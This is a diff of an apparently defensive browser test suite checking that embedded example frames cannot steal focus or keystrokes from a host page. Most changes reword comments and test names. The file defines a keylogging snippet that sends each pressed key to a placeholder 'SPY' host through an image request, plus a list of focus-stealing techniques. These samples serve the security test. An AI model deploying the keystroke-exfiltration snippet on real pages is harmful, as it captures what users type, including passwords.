@@ -23,7 +23,7 @@ test.beforeAll(async () => {
 
 test.afterAll(() => spy.stop());
 
-/** Ways to take the focus, each tried again and again: one of each kind … */
+/** Ways to take the focus, each tried repeatedly: one of each kind … */
 const thefts: Readonly<Record<string, string>> = {
   'focus of a field': "document.querySelector('input').focus();",
   'a modal dialog': `${html('<dialog><input autofocus></dialog>')}document.querySelector('dialog').showModal();`,
@@ -34,7 +34,7 @@ const thefts: Readonly<Record<string, string>> = {
   editing:
     "document.body.contentEditable = 'true'; document.body.focus(); document.designMode = 'on';",
   'full screen': 'document.documentElement.requestFullscreen().catch(() => undefined);',
-  // … and each night their like: it is one inert element that all of them come up against.
+  // … and nightly the others: it is the same `inert` attribute that stops them.
   ...(isAll && {
     'focus of SVG':
       "const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.tabIndex = 0; document.body.append(svg); svg.focus();",
@@ -51,15 +51,15 @@ const thefts: Readonly<Record<string, string>> = {
   }),
 };
 
-/** Tells the page and the spy of every key that reaches the example. */
+/** Reports every key that reaches the example to the page and to the spy. */
 const LISTEN =
   "addEventListener('keydown', (event) => { console.log('STOLEN ' + event.key); new Image().src = 'SPY/stolen?' + event.key; }, true);";
 
-/** Runs hostile statements that know where the spy is. */
+/** Runs hostile statements with the address of the spy. */
 const spyOn = (page: Page, statements: string) =>
   attack(page, statements.replaceAll('SPY', spy.origin));
 
-/** Opens the frame's own door from inside, then tries a way every 40 ms, whatever it throws. */
+/** Removes the frame's own `inert` from inside, then tries a way every 40 ms, whatever it throws. */
 const insist = (statements: string) => `${LISTEN}
 const again = () => { try { document.documentElement.inert = false; ${statements} } catch {} };
 again();
@@ -98,7 +98,7 @@ test('an example cannot take the focus from the search', async ({ page }) => {
       await expect.soft(input, `typed beside ${way}`).toHaveValue('secret words');
       await expect.soft(input, `focus beside ${way}`).toBeFocused();
       expect.soft(stolen, `keys stolen by ${way}`).toEqual([]);
-      expect.soft(spy.heard.splice(0), `sent by ${way}`).toEqual([]);
+      expect.soft(spy.requests.splice(0), `sent by ${way}`).toEqual([]);
       await input.clear();
       await page.keyboard.press('Escape');
       await expect(dialog).toBeHidden();
@@ -106,10 +106,10 @@ test('an example cannot take the focus from the search', async ({ page }) => {
   }
 });
 
-/** What an example waits for before it steals: nothing that its page or its own code changes. */
+/** Event that an attack waits for: one that only the test triggers. */
 const SIGNAL = "matchMedia('(prefers-contrast: more)').matches";
 
-test('an example that takes the focus while its reader types is ended, and gives it back', async ({
+test('an example that takes the focus from a typing reader is stopped, and the focus is restored', async ({
   page,
 }) => {
   const stolen = hearStolen(page);
@@ -126,12 +126,12 @@ test('an example that takes the focus while its reader types is ended, and gives
   };
   await expect.poll(isStopped, { ...RUN, intervals: [50] }).toBe('stuck');
   await expect(input).toBeFocused();
-  // The key that is on its way when the focus goes is the most there is to be had.
+  // At most the key that is being delivered when the focus moves.
   expect(stolen.length).toBeLessThanOrEqual(1);
-  expect(spy.heard, 'nothing leaves the frame').toEqual([]);
+  expect(spy.requests, 'nothing leaves the frame').toEqual([]);
 });
 
-test('an example gets neither focus nor keys by wanting them, and scrolls nothing but itself', async ({
+test('an example can neither take focus nor keys, and scrolls nothing but itself', async ({
   page,
 }) => {
   test.setTimeout(120_000);
@@ -194,7 +194,7 @@ export default function App() {
   </View>;
 }`;
 
-/** The middle of what a phone shows, in the window: its frame may be drawn smaller than it is. */
+/** Centre of an element of a phone in window coordinates: its frame may be scaled. */
 async function middleOf(page: Page, shown: Locator): Promise<{ x: number; y: number }> {
   const frame = phone(page, target.name).locator('iframe[data-drawn]');
   await frame.scrollIntoViewIfNeeded();
@@ -209,7 +209,7 @@ async function middleOf(page: Page, shown: Locator): Promise<{ x: number; y: num
   }, inside);
 }
 
-test('a phone takes the presses, keys and Tab of its reader, and is closed when they go on', async ({
+test('a phone receives presses, keys and Tab of its reader, and is inert again when they leave it', async ({
   page,
 }) => {
   test.setTimeout(120_000);
@@ -238,7 +238,7 @@ test('a phone takes the presses, keys and Tab of its reader, and is closed when 
   await pressed(2);
   await goOn();
 
-  // While it opens, too.
+  // Also while it becomes interactive.
   await pressAt(button, 12);
   await pressed(14);
   await expect(example.locator('.zs-play-enter')).toBeHidden();
@@ -246,7 +246,7 @@ test('a phone takes the presses, keys and Tab of its reader, and is closed when 
 
   const field = screen.getByRole('textbox', { name: '칸' });
   await pressAt(field);
-  // No reader types in the moment that the phone takes to open.
+  // Keys while the phone becomes interactive are not tested.
   await expect(field).toBeFocused();
   await page.keyboard.type('안녕');
   await expect(screen.getByText('쓴 글 안녕')).toBeVisible();
@@ -259,12 +259,12 @@ test('a phone takes the presses, keys and Tab of its reader, and is closed when 
   await pressed(15);
   await page.keyboard.press('Tab');
   await page.keyboard.press('Tab');
-  // The frame is of another process, which tells the page of the key in its own time.
+  // The frame is in another process, which sends the key to the page later.
   await expect(frame).toHaveAttribute('inert', '', RUN);
   expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME');
 });
 
-test('a press that the browser still gives to the page once a phone is open lets its reader type', async ({
+test('a press that the browser still delivers to the page once a phone is interactive lets its reader type', async ({
   page,
 }) => {
   await openTarget(page);
@@ -273,7 +273,7 @@ test('a press that the browser still gives to the page once a phone is open lets
   const field = screenOf(example).getByLabel('칸');
   await expect(field).toBeVisible(RUN);
   const { x, y } = await middleOf(page, field);
-  // A browser that is slow to draw gives the frame's place to the page. Its padding is always the page's.
+  // A browser that paints slowly hit-tests the page instead of the frame. The padding is always the page's.
   await example.locator('iframe[data-drawn]').evaluate((frame) => {
     frame.style.cssText += 'box-sizing: border-box; padding-top: 50px';
   });
